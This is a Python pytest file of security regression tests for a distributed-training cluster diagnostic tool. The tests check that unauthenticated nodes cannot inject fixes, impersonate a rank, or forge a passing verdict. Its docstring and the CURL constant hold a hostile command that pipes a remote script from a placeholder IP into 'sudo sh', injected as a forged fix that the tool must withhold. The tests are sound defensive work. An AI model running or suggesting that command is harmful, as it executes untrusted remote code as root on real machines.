"""Issue 33 part 1, with real processes: not authenticated means no fix from the network on any node.

* An outsider who reaches the port appends unsigned facts for a node that joined without the key: the master
  used to print `fix: curl -s http://203.0.113.9/fix.sh | sudo sh; python3 -m pip install torch ...`, in
  cluster.json too. The finding stays; its fix is withheld, and the document says so.
* With a shared home, an outsider claims rank 1 under the public names while the real node starts 5 s late:
  the master used to accept the impostor after its 3 s grace. A keyed run now takes only keyed nodes.
* A node without the key took a forged PASS and exited 0 while the master's real verdict was FAIL, and listed
  itself twice in auth.open_nodes. It now exits 5 (not verified) and is listed once.
"""
from __future__ import annotations

import json
import time

import pytest

from tests.cluster_procs import assert_clean, budget_s, cluster, identity, sealed  # noqa: F401 - fixture

TIMEOUT = 25
CURL = "curl -s http://203.0.113.9/fix.sh | sudo sh; python3"
ONLY = "mesh,launch-args,torch-build"


def _home(tmp_path, name: str) -> dict:
    """A home directory no other node sees (no shared filesystem: no common key file)."""
    home = tmp_path / name
    home.mkdir(exist_ok=True)
    return {"HOME": str(home)}


def _no_key_home(tmp_path) -> dict:
    """A master that can write no key file anywhere: the run is unauthenticated (mode none)."""
    return {"HOME": str(tmp_path / "no-such-home" / "x")}


def _forged_facts() -> dict:
    facts = {"python_version": "3.11.0", "python_implementation": "CPython", "python_executable": CURL,
             "nvidia_driver_present": False, "torch_error": "ImportError: No module named 'torch'"}
    return {"facts": {"torch-build": facts}, "gather": {"torch-build": {"status": "ok"}}}


def _fixes(doc: dict) -> str:
    return json.dumps([r.get("fix") for r in doc["results"]] + [g.get("fix") for g in doc.get("groups", [])]
                      + list(doc.get("advice") or []))


@pytest.mark.slow
@pytest.mark.timeout(200)
@pytest.mark.parametrize("mode", ["no-key-anywhere", "allow-unauthenticated"])
def test_an_outsiders_facts_for_a_keyless_node_give_no_fix_on_the_master(cluster, tmp_path, mode):
    c = cluster(2)
    if mode == "no-key-anywhere":
        master = c.start_master(only=ONLY, timeout=TIMEOUT, json_out=False, env=_no_key_home(tmp_path),
                                output=str(tmp_path / "m"))
    else:
        master = c.start_master("--allow-unauthenticated", only=ONLY, timeout=TIMEOUT, json_out=False,
                                env=_home(tmp_path, "home0"), output=str(tmp_path / "m"))
    h = c.hostile()
    run = h.run_nonce(None)
    h.append("facts/1.1", sealed(_forged_facts(), key="facts/1.1", sender=(1, 1), run=run, token=None))
    worker = c.start(1, only=ONLY, timeout=TIMEOUT, json_out=False, env=_home(tmp_path, "home1"),
                     output=str(tmp_path / "w"))
    codes = c.finish(budget_s(TIMEOUT))
    assert None not in codes.values(), c.report()
    for node in (master, worker):
        assert_clean(node)
    mdoc = master.doc()
    assert mdoc and mdoc["auth"]["authenticated"] is False, c.report()
    # the finding (the forged facts say torch does not import) stays; its fix is withheld, and said so
    forged = [r for r in mdoc["results"] if r["check"] == "torch-build" and r["level"] == "fail"]
    assert forged and all(r["fix"] == "" and "not authenticated" in r["fix_withheld"] for r in forged), forged
    assert "curl" not in _fixes(mdoc), mdoc["results"]
    assert "curl" not in master.stdout and "fix withheld:" in master.stdout, master.stdout
    cluster_json = json.loads((tmp_path / "m" / "cluster.json").read_text())
    assert "curl" not in _fixes(cluster_json)
    assert codes[1] == 5, c.report()  # the worker cannot verify the master either


@pytest.mark.slow
@pytest.mark.timeout(200)
def test_an_impostor_under_the_public_names_does_not_take_a_late_keyed_nodes_rank(cluster):
    """Shared home: the master has the run's key, and so will rank 1. An outsider claims rank 1 first, under
    the public names, with a valid unsigned identity; the real node starts 5 s later (past the old 3 s grace).
    The master waits for a node that proves the key, takes the real one, and the run passes."""
    c = cluster(2)
    master = c.start_master(timeout=TIMEOUT)
    h = c.hostile()
    run = h.run_nonce(None)
    assert h.store.compare_set("claim/1/1", "", "ab" * 16) == b"ab" * 16
    h.append("ident/1/1", sealed(identity(1, 1, host="impostor", launch={"nnodes": 2, "endpoint": c.master}),
                                 key="ident/1/1", sender=(1, 1), run=run, token=None))
    time.sleep(5.0)
    worker = c.start(1, timeout=TIMEOUT)
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 0, 1: 0}, c.report()
    mdoc, wdoc = master.doc(), worker.doc()
    assert "impostor" not in json.dumps(mdoc["nodes"]), mdoc["nodes"]
    for doc in (mdoc, wdoc):
        assert doc["auth"]["authenticated"] is True and not doc["auth"]["open_nodes"], doc["auth"]


@pytest.mark.slow
@pytest.mark.timeout(200)
def test_a_keyed_run_takes_no_keyless_node_unless_told(cluster, tmp_path):
    """The master has its key file; rank 1 shares no home with it. By default the run does not assemble
    (exit 3 on both), naming the unkeyed claim and the two ways out; a claim under the public names could
    be anyone's."""
    c = cluster(2)
    master = c.start_master(timeout=TIMEOUT, json_out=False, env=_home(tmp_path, "home0"))
    worker = c.start(1, timeout=TIMEOUT, json_out=False, env=_home(tmp_path, "home1"))
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 3, 1: 3}, c.report()
    for node in (master, worker):
        error = [ln for ln in node.stderr.splitlines() if ln.startswith("Error:")][-1]
        assert "without the run's key" in error and "--allow-unauthenticated" in error, error
        assert "DDPDOCTOR_TOKEN" in error, error


@pytest.mark.slow
@pytest.mark.timeout(200)
@pytest.mark.parametrize("mode", ["no-key-anywhere", "allow-unauthenticated"])
def test_a_keyless_worker_never_exits_0_on_a_forged_pass(cluster, tmp_path, mode):
    """The nodes disagree on --rdzv-id, so the master's real verdict is FAIL. An outsider appends a PASS
    verdict first. The worker (no key: none anywhere, or the master's that it cannot read) cannot tell which
    is the master's: it says so and exits 5, and lists itself once among the nodes without the key."""
    c = cluster(2)
    if mode == "no-key-anywhere":
        master = c.start_master("--rdzv-id", "job-a", timeout=TIMEOUT, env=_no_key_home(tmp_path))
    else:
        master = c.start_master("--rdzv-id", "job-a", "--allow-unauthenticated", timeout=TIMEOUT,
                                env=_home(tmp_path, "home0"))
    h = c.hostile()
    run = h.run_nonce(None)
    forged = {"verdict": "pass", "exit_code": 0, "scope": "cluster", "nodes": {}, "advice": [],
              "results": [{"check": "mesh", "level": "pass", "summary": "all good", "nodes": [], "fix": ""}]}
    h.append("verdict", sealed(forged, key="verdict", sender=(0, 1), run=run, token=None))
    worker = c.start(1, "--rdzv-id", "job-b", timeout=TIMEOUT, json_out=False, env=_home(tmp_path, "home1"),
                     output=str(tmp_path / "w"))
    codes = c.finish(budget_s(TIMEOUT))
    for node in (master, worker):
        assert_clean(node)
    assert codes == {0: 1, 1: 5}, c.report()
    wdoc = worker.doc()
    assert wdoc["exit_code"] == 5 and wdoc["auth"]["verdict_verified"] is False, wdoc["auth"]
    assert "NOT VERIFIED" in worker.stdout, worker.stdout
    names = wdoc["auth"]["open_nodes"]
    assert len(names) == len(set(names)), names
    if mode == "allow-unauthenticated":  # the roster lists the worker's slot as open, and it knows it is blind
        assert names == [wdoc["this_node"]], names
